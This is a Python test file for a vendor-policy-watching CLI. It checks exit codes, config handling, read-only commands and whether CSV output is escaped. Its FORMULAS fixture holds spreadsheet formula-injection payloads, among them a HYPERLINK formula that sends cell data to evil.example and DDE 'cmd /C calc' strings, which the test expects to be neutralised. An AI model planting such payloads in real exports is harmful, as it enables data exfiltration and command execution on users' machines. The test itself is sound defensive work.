"""The command line as a user meets it: read-only commands without alert secrets, inert CSV,
exit codes, where ``--config`` goes, and messages that read as English."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

from pwtest import PageServer, cli, recent, write_config, zendesk_page

from policy_watch.store import run_lock

SECRET_ENV = "PW_CLI_HOOK_TOKEN"
ROW = "<tr><td>{}</td><td>{}</td><td>{}</td></tr>"
PAGE = (
    "<html><body><h1>Subprocessors</h1><table><thead><tr><th>Entity Name</th><th>Purpose</th>"
    "<th>Country</th></tr></thead><tbody>{}</tbody></table></body></html>"
)
SAFE = [
    ROW.format("Amazon Web Services, Inc.", "Hosting", "United States"),
    ROW.format("Stripe, Inc.", "Payments", "United States"),
]
FORMULAS = [
    ROW.format('=HYPERLINK("http://evil.example/?"&amp;A1,"Click")', "+cmd|' /C calc'!A0", "-2+3"),
    ROW.format("@SUM(1+1)*cmd|' /C calc'!A0", "\tTabbed", "Ireland"),
]


def _checked_twice(pages: PageServer, tmp_path: Path, hook: str, env: dict[str, str]) -> Path:
    pages.serve("/z", zendesk_page("v1", recent(5)))
    config = write_config(tmp_path, [("Zendesk Connect", pages.url("/z"))], [hook])
    assert cli(config, "run", env=env).returncode == 0
    pages.serve("/z", zendesk_page("v2", recent(3)))
    r = cli(config, "run", env=env)
    assert r.returncode == 0, r.stderr
    return config


READ_ONLY = [
    ("show", "Zendesk Connect"),
    ("history", "Zendesk Connect"),
    ("who", "Snowflake"),
    ("changes",),
    ("changes", "--csv"),
    ("deadlines",),
    ("deadlines", "--json"),
    ("export",),
    ("export", "--format", "json", "--what", "changes"),
    ("outbox", "--all"),
]


def test_read_only_commands_work_without_the_alert_secret(pages: PageServer, tmp_path: Path) -> None:
    hook = f"json://127.0.0.1:{pages.port}/hook?token=${{{SECRET_ENV}}}"
    config = _checked_twice(pages, tmp_path, hook, {SECRET_ENV: "s3cr3t-value"})
    env = {k: v for k, v in os.environ.items() if k != SECRET_ENV}
    for args in READ_ONLY:
        r = subprocess.run(
            [sys.executable, "-m", "policy_watch", "--config", str(config), *args],
            capture_output=True,
            text=True,
            env={**env, "COLUMNS": "200"},
            timeout=60,
        )
        assert r.returncode == 0, (args, r.stderr)
        assert "not set" not in r.stderr, (args, r.stderr)
    r = subprocess.run(
        [sys.executable, "-m", "policy_watch", "--config", str(config), "run"],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )
    assert r.returncode == 2 and f"${{{SECRET_ENV}}} is not set" in r.stderr and "notify[1].url" in r.stderr


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_every_csv_output_is_inert_in_a_spreadsheet(pages: PageServer, tmp_path: Path) -> None:
    pages.serve("/f", PAGE.format("".join(SAFE)))
    config = write_config(tmp_path, [("Formulas", pages.url("/f"))])
    assert cli(config, "run").returncode == 0
    pages.serve("/f", PAGE.format("".join(SAFE + FORMULAS)))
    assert cli(config, "run").returncode == 0
    outputs = {
        "export": cli(config, "export", "--format", "csv"),
        "export changes": cli(config, "export", "--format", "csv", "--what", "changes"),
        "changes": cli(config, "changes", "--csv"),
    }
    for label, r in outputs.items():
        assert r.returncode == 0, r.stderr
        rows = _csv_rows(r.stdout)
        cells = [v for row in rows for v in row.values() if v]
        assert cells, label
        dangerous = [v for v in cells if v[0] in "=+-@\t\r"]
        assert not dangerous, (label, dangerous)
        assert any(v.startswith("'=HYPERLINK(") for v in cells), (label, cells)
        assert any(v.startswith("'@SUM(") for v in cells), label
    entries = _csv_rows(outputs["export"].stdout)
    hyper = next(r for r in entries if "HYPERLINK" in r["entity"])
    assert (hyper["purpose"], hyper["country"]) == ("'+cmd|' /C calc'!A0", "'-2+3")
    # JSON stays exact
    data = json.loads(cli(config, "export", "--format", "json").stdout)
    assert any(r["entity"].startswith('=HYPERLINK("http://evil.example/?"&A1') for r in data)


def test_a_run_locked_by_another_exits_3_as_documented(pages: PageServer, tmp_path: Path) -> None:
    pages.serve("/z", zendesk_page("v1"))
    config = write_config(tmp_path, [("Zendesk Connect", pages.url("/z"))])
    assert cli(config, "run").returncode == 0
    with run_lock(tmp_path / "pw.db"):
        r = cli(config, "run")
    assert r.returncode == 3, (r.returncode, r.stderr)
    assert "Traceback" not in r.stderr and r.stderr.strip()
    readme = " ".join((Path(__file__).resolve().parents[1] / "README.md").read_text().split())
    assert "3 another check is running" in readme


def test_config_is_accepted_after_the_command(pages: PageServer, tmp_path: Path) -> None:
    pages.serve("/z", zendesk_page("v1"))
    config = write_config(tmp_path, [("Zendesk Connect", pages.url("/z"))])
    r = cli(None, "run", "--config", str(config))
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith("checked 1 vendor: 1 baseline;"), r.stdout
    shown = cli(None, "show", "Zendesk Connect", "--config", str(config), "--json")
    assert shown.returncode == 0 and json.loads(shown.stdout)["entries"], shown.stderr
    after = cli(None, "history", f"--config={config}", "Zendesk Connect")
    assert after.returncode == 0, after.stderr


def test_a_missing_config_file_names_its_full_path(tmp_path: Path) -> None:
    r = subprocess.run(
        [sys.executable, "-m", "policy_watch", "--config", "nope.toml", "run"],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=60,
    )
    assert r.returncode == 2
    assert f"{tmp_path.resolve() / 'nope.toml'}: config file not found" in r.stderr, r.stderr
    default = subprocess.run(
        [sys.executable, "-m", "policy_watch", "deadlines"],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=60,
    )
    assert default.returncode == 2 and str(tmp_path.resolve() / "config.toml") in default.stderr
